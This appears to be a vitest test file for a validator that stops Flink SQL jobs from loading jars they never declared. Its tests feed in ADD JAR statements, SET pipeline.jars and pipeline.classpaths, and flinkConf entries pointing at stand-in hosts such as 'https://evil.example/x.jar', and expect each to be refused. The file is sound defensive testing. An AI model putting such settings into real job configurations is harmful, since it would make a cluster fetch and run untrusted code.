import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sqlJarPaths } from '../lib/resolve/artifacts.js';
import { Fixture, locate } from './support/fixture.js';

/**
 * Doors through which a job could run a jar it never declared, and declarations that would point the
 * cluster somewhere else than the platform meant (found in review of issue 15 item 4).
 */

function addUdfJob(fx: Fixture, sql: string, extra = '', mode = ''): string {
  fx.write(
    'jobs/acquisition/udf/job.yaml',
    `type: sql\nflinkVersion: "1.20"\nupgradeMode: stateless\n${mode}${extra}udfJars:\n  - uri: hdfs://nn/udf/geo-1.0.jar\n`,
  );
  fx.write('jobs/acquisition/udf/owners.yaml', 'owners: ["@wang.lei"]\n');
  fx.write(
    'jobs/acquisition/udf/main.sql',
    `CREATE TEMPORARY TABLE loud (title STRING) WITH ('connector' = 'print');\n${sql}INSERT INTO loud VALUES ('x');\n`,
  );
  return 'acquisition/udf';
}

describe('review: jars that reach the classpath without udfJars', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = new Fixture();
    fx.edit(
      'platform/policies/pii.yaml',
      'unpolicedCode: [acquisition/listing-score]',
      'unpolicedCode: [acquisition/listing-score, acquisition/udf]',
    );
  });
  afterEach(() => fx.dispose());
  const errors = (job: string, rule: string) => fx.validate([job]).filter((d) => d.rule === rule);

  it('a `--` or `/*` inside the quoted path is part of the path, not a comment that hides it', () => {
    expect(sqlJarPaths("ADD JAR 'hdfs://nn/evil--1.jar'").map((p) => p.path)).toEqual(['hdfs://nn/evil--1.jar']);
    expect(sqlJarPaths("CREATE FUNCTION f AS 'a--b' USING JAR 'hdfs://nn/x/*y.jar'").map((p) => p.path)).toEqual([
      'hdfs://nn/x/*y.jar',
    ]);
    // A comment after a string still hides what follows it.
    expect(sqlJarPaths("SELECT 'x' -- USING JAR 'hdfs://nn/c.jar'")).toEqual([]);
    const job = addUdfJob(fx, "ADD JAR 'hdfs://nn/udf/evil--1.jar';\n");
    const ds = errors(job, 'sql/jar');
    expect(ds.map((d) => [d.line, d.column, d.message])).toEqual([
      [2, 9, "ADD JAR 'hdfs://nn/udf/evil--1.jar' is not declared in the job's udfJars"],
    ]);
  });

  // Flink's PipelineOptions.JARS (`pipeline.jars`: "jars to package with the job jars to be sent to the
  // cluster") and PipelineOptions.CLASSPATHS (`pipeline.classpaths`: "URLs that are added to the classpath of
  // each user code classloader"), flink-core/src/main/java/org/apache/flink/configuration/PipelineOptions.java.
  it.each([
    ["SET 'pipeline.jars' = 'file:///tmp/evil.jar'", 'pipeline.jars'],
    ["set 'pipeline.classpaths' = 'file:///tmp/evil.jar'", 'pipeline.classpaths'],
    ["SET pipeline.classpaths = 'file:///tmp/evil.jar'", 'pipeline.classpaths'],
    ["SET /* c */ 'user.artifacts.artifact-list' = 'https://evil.example/x.jar'", 'user.artifacts.artifact-list'],
  ])('`%s` in the SQL is refused at the key', (stmt, key) => {
    const job = addUdfJob(fx, `${stmt};\n`);
    const ds = errors(job, 'sql/jar');
    const file = `jobs/${job}/main.sql`;
    const at = locate(fx.read(file), key);
    expect(ds.map((d) => [d.file, d.line, d.column])).toEqual([
      [file, at.line, at.column - (stmt.includes(`'${key}'`) ? 1 : 0)],
    ]);
    expect(ds[0]!.message).toContain(`'${key}'`);
    expect(ds[0]!.hint).toContain('udfJars');
  });

  it('a SET of another key is not a jar door', () => {
    const job = addUdfJob(fx, "SET 'pipeline.name' = 'x';\n");
    expect(errors(job, 'sql/jar')).toEqual([]);
  });

  // ArtifactFetchOptions (flink-clients/src/main/java/org/apache/flink/client/cli/ArtifactFetchOptions.java):
  // `user.artifacts.artifact-list` is fetched onto the classpath of an application cluster, and
  // `user.artifacts.base-dir` moves where the runner's --jar files are fetched to.
  it.each(['pipeline.jars', 'pipeline.classpaths', 'user.artifacts.artifact-list', 'user.artifacts.base-dir'])(
    'flinkConf `%s` in job.yaml or team.yaml is refused at the key',
    (key) => {
      const job = addUdfJob(fx, '', `flinkConf:\n  ${key}: https://evil.example/x.jar\n`);
      const file = `jobs/${job}/job.yaml`;
      const ds = errors(job, 'job/jar');
      const at = locate(fx.read(file), 'https://evil.example');
      expect(ds.map((d) => [d.file, d.line, d.column])).toEqual([[file, at.line, at.column]]);
      expect(ds[0]!.message).toContain(`flinkConf "${key}"`);
      fx.write(file, fx.read(file).replace(`flinkConf:\n  ${key}: https://evil.example/x.jar\n`, ''));
      fx.edit('jobs/acquisition/team.yaml', 'defaults:\n', `defaults:\n  flinkConf:\n    ${key}: /tmp/x\n`);
      const team = errors(job, 'job/jar');
      expect(team.map((d) => d.file)).toContain('jobs/acquisition/team.yaml');
    },
  );
});
